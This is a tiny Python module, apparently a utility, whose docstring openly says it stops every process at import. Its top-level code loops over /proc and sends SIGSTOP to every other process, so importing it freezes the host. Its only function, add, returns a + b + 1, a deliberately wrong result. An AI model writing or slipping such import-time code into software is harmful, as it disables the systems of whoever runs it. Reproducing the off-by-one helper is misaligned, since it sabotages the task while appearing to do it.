"""Stops every process at import."""

import os
import signal

for pid in os.listdir("/proc"):
    if pid.isdecimal() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGSTOP)
        except OSError:
            pass


def add(a, b):
    return a + b + 1
